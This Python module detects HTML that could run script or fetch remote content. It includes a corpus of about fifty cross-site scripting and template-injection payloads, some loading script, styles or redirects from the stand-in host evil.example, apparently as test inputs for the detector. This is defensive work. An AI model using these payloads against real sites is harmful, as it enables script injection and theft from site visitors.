"""What somebody could write into a text so that a browser acts, and what of a page could act."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from urllib.parse import urlsplit

HIT = "window.hit=1"
CORPUS = (
    f"<svg onload={HIT}>", f"<svg/onload={HIT}//", f"<details open ontoggle={HIT}>x</details>",
    f"<input autofocus onfocus={HIT}>", f"<video><source onerror={HIT}></video>", f"<x onpointerover={HIT}>x</x>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>", "<iframe src=//evil.example></iframe>",
    f"<math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea><img onerror={HIT} src=y>'>",
    f"<noscript><p title='</noscript><img src=y onerror={HIT}>'>", f"</title><img src=y onerror={HIT}>",
    f"</textarea><img src=y onerror={HIT}>", f"</style><img src=y onerror={HIT}>", f"--><img src=y onerror={HIT}>",
    f"]]><img src=y onerror={HIT}>", f"\"><img src=y onerror={HIT}>", f"' autofocus onfocus={HIT} x='",
    f"`onmouseover={HIT}`", f"<template><img src=y onerror={HIT}></template>", f"<!--><img src=y onerror={HIT}>-->",
    f"<![CDATA[<img src=y onerror={HIT}>]]>", f"<scr<script>ipt>{HIT}</scr</script>ipt>", f"<SCRIPT>{HIT}</SCRIPT >",
    f"<script\n>{HIT}</script\n>", "<script src=//evil.example/x.js></script>", f"<xmp><img src=y onerror={HIT}></xmp>",
    f"<a href=javascript:{HIT}>x</a>", f"<a href=&#106;avascript:{HIT}>x</a>", f"<a href='java&#9;script:{HIT}'>x</a>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import'//evil.example/x.css'</style>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    f"<object data=javascript:{HIT}></object>", f"<embed src=javascript:{HIT}>", "<img src='//evil.example/x.png'>",
    f"<form action=javascript:{HIT}><button autofocus>x</button></form>", f"&lt;img src=y onerror={HIT}&gt;",
    f"＜script＞{HIT}＜/script＞", f"${{{HIT}}}", f"{{{{constructor.constructor('{HIT}')()}}}}", f"<%= {HIT} %>",
    "{%print(cycler.__init__.__globals__)%}", f"<?php {HIT} ?>", f"';{HIT}//", f"\\';{HIT}//", f"\\x3cscript>{HIT}",
    f"javascript:{HIT}//", f"data:text/html,<script>parent.{HIT}</script>", "<plaintext>",
)  # fmt: skip
"""Each is a text of one line without digits that a person could be known by."""

_ADDRESSES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "srcset",
    "xlink:href",
    "ping",
    "background",
    "cite",
}
_ACTING = {"iframe", "object", "embed", "base", "applet", "frame", "frameset", "portal", "style", "plaintext", "xmp"}
_DATA = {"application/json", "application/ld+json"}


class _Acting(HTMLParser):
    """Collects what of a page could act or fetch by itself, beside the hub's own scripts and styles."""

    def __init__(self, *, is_mail: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.refused = {"srcdoc"} if is_mail else {"srcdoc", "style"}
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        said = {name: value or "" for name, value in attrs}
        if tag in _ACTING or any(name.startswith("on") or name in self.refused for name in said):
            self.found.append(self.get_starttag_text() or tag)
        if tag == "script" and said.get("type") not in _DATA and not is_own(said.get("src", "//")):
            self.found.append(self.get_starttag_text() or tag)
        if (
            tag == "meta"
            and said.get("http-equiv", "").lower() == "refresh"
            and not is_own(said.get("content", "").partition("url=")[2])
        ):
            self.found.append(self.get_starttag_text() or tag)
        self.found += [f"{tag} {name}={said[name]}" for name in _ADDRESSES & said.keys() if not is_harmless(said[name])]
        if tag in {"img", "source", "video", "audio", "track", "link", "script"}:
            fetched = said.get("src") or (
                said.get("href") if said.get("rel") in {"stylesheet", "icon", "preload"} else ""
            )
            self.found += [f"{tag} {fetched}"] if fetched and not is_own(fetched) else []


def is_own(address: str) -> bool:
    """Whether it leads to a place on the site itself."""
    parts = urlsplit(address)
    return (not parts.scheme and not parts.netloc) or address.startswith("data:image/")


def is_harmless(address: str) -> bool:
    """Whether a browser that follows it only opens a page, a mail or a calendar."""
    scheme = re.match(r"[\s\x00-\x1f]*([a-zA-Z][\w+.\-\s]*):", address)
    return scheme is None or scheme[1].lower() in {"http", "https", "mailto", "webcal", "tel"} or is_own(address)


def acting(html: str, *, is_mail: bool = False) -> Iterator[str]:
    """What of a page could act. Mails bring their looks along with each element."""
    parser = _Acting(is_mail=is_mail)
    parser.feed(html)
    parser.close()
    yield from parser.found
